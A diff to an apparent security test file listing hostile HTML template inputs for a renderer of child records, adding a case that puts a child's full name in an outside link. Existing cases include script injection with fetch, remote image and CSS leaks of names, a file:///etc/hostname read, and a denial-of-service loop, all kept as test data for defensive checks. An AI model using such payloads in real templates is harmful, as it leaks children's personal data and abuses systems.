@@ -70,6 +70,7 @@ ATTACKS: dict[str, Callable[[Path], None]] = {
     "script": _html("<p>{{ child.preferred_name }}</p><script>fetch('//x')</script>"),
     "remote-image": _html("<img src=\"https://example.invalid/{{ child.full_name }}.png\">"),
     "file-image": _html("<img src=\"file:///etc/hostname\">"),
+    "remote-link": _html("<a href=\"https://example.invalid/{{ child.full_name }}\">More</a>"),
     "remote-css": _html("<style>@import url(https://example.invalid/a.css);</style>"),
     "event-handler": _html("<p onmouseover=\"x()\">{{ child.preferred_name }}</p>"),
     "runaway-loops": _html("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}"),
